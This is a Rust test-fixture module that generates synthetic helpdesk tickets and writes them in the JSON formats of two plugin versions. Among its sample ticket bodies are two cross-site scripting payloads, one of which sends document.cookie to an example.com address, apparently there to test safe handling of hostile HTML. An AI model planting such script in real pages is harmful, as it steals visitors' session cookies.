//! A generated ticket, and how either version of the plugin writes it.

use jiff::ToSpan as _;
use jiff::civil::{DateTime, date};
use jiff::tz::TimeZone;
use serde_json::{Map, Value, json};

use super::Version;

/// When the first ticket was opened, by the site's time of day.
const BEGIN: DateTime = date(2025, 1, 1).at(0, 0, 0, 0);

/// The tickets are spread over so many minutes, a little less than a year.
const SPREAD: i64 = 500_000;

const PRODUCTS: [Option<&str>; 12] = [
    Some("Support"),
    Some("Hosting"),
    Some("Migration"),
    Some("Website"),
    Some("Email"),
    Some("Forms"),
    Some("Scripts"),
    Some("Advisory"),
    Some("Project"),
    Some("General"),
    Some("Something else"),
    None,
];

const PRIORITIES: [&str; 7] = ["normal", "medium", "critical", "high", "low", "urgent", ""];

const CONTENTS: [&str; 6] = [
    "<p>Our form does not send. Could you &amp; your team have a look?</p>",
    "<div>Please <strong>move</strong> the site<br>to the new server.</div>",
    "<p>It says <code>&lt;?php echo 1 &lt; 2 ?&gt;</code></p><p>Why?</p>",
    "<script>document.location='https://example.com/'+document.cookie</script><p>Hello</p>",
    "<img src=x onerror=\"alert(1)\"><p>The logo is gone \u{1f642}</p>",
    "Plain words,\nin two lines",
];

/// One ticket. Times are the site's time of day.
#[derive(Debug, Clone)]
pub(super) struct Ticket {
    pub(super) id: i64,
    pub(super) title: String,
    pub(super) content: String,
    pub(super) status: String,
    pub(super) priority: String,
    pub(super) product: Option<String>,
    pub(super) agent: Option<i64>,
    pub(super) created_at: DateTime,
    pub(super) updated_at: DateTime,
    pub(super) resolved_at: Option<DateTime>,
}

impl Ticket {
    /// The `id`-th of so many.
    pub(super) fn generated(id: i64, of: i64) -> Self {
        let nth = |number: usize| usize::try_from(id).unwrap_or_default() % number;
        let created_at = BEGIN + (id * SPREAD / of.max(1)).minutes();
        let updated_at = created_at + (id * 7919 % 20_000).minutes();
        let status = match nth(50) {
            0 => "waiting",
            number if number % 5 < 3 => "closed",
            number if number % 5 == 3 => "active",
            _ => "new",
        };
        Self {
            id,
            title: format!("Ticket {id} &amp; more"),
            content: CONTENTS[nth(CONTENTS.len())].to_owned(),
            status: status.to_owned(),
            priority: PRIORITIES[nth(PRIORITIES.len())].to_owned(),
            product: PRODUCTS[nth(PRODUCTS.len())].map(str::to_owned),
            agent: (nth(4) > 0).then_some(i64::try_from(nth(4)).unwrap_or_default()),
            created_at,
            updated_at,
            resolved_at: (status == "closed").then_some(updated_at),
        }
    }

    /// What the plugin writes.
    pub(super) fn told(&self, version: Version, zone: &TimeZone) -> Value {
        let time = |time: Option<DateTime>| time.map_or(Value::Null, |time| told_time(time, version, zone));
        // Both kinds of numbers come from the same site, by way of the database's driver.
        let number = |number: i64| if self.id % 3 == 0 { json!(number.to_string()) } else { json!(number) };
        let customer = self.id % 97 + 1;
        let mut members = Map::new();
        for (name, value) in [
            ("id", number(self.id)),
            ("customer_id", number(customer)),
            ("agent_id", self.agent.map_or(Value::Null, number)),
            ("mailbox_id", json!("1")),
            ("product_id", self.product.as_ref().map_or(Value::Null, |_| number(self.id % 12 + 1))),
            ("product_source", json!("local")),
            ("privacy", json!("private")),
            ("priority", json!(self.priority)),
            ("client_priority", json!("normal")),
            ("status", json!(self.status)),
            ("title", json!(self.title)),
            ("slug", json!(format!("ticket-{}", self.id))),
            ("content", json!(self.content)),
            ("secret_content", Value::Null),
            ("response_count", number(self.id % 9)),
            ("last_agent_response", json!("0000-00-00 00:00:00")),
            ("last_customer_response", time(Some(self.created_at))),
            ("resolved_at", time(self.resolved_at)),
            ("created_at", time(Some(self.created_at))),
            ("updated_at", time(Some(self.updated_at))),
            ("customer", person(customer)),
            ("agent", self.agent.map_or(Value::Null, person)),
            (
                "product",
                self.product.as_ref().map_or(Value::Null, |title| json!({"id": self.id % 12 + 1, "title": title})),
            ),
            ("mailbox", json!({"id": 1, "name": "Support"})),
            ("tags", json!([])),
        ] {
            members.insert(name.to_owned(), value);
        }
        Value::Object(members)
    }
}

fn person(id: i64) -> Value {
    json!({
        "id": id, "first_name": format!("First{id}"), "last_name": "Last", "full_name": format!("First{id} Last"),
        "email": format!("person{id}@example.com"), "photo": "https://www.example.com/avatar.png",
    })
}

fn told_time(time: DateTime, version: Version, zone: &TimeZone) -> Value {
    match version {
        Version::One => json!(time.strftime("%Y-%m-%d %H:%M:%S").to_string()),
        Version::Two => {
            let at = zone.to_ambiguous_timestamp(time).compatible().unwrap_or_default();
            json!(at.strftime("%Y-%m-%dT%H:%M:%S.%6fZ").to_string())
        }
    }
}
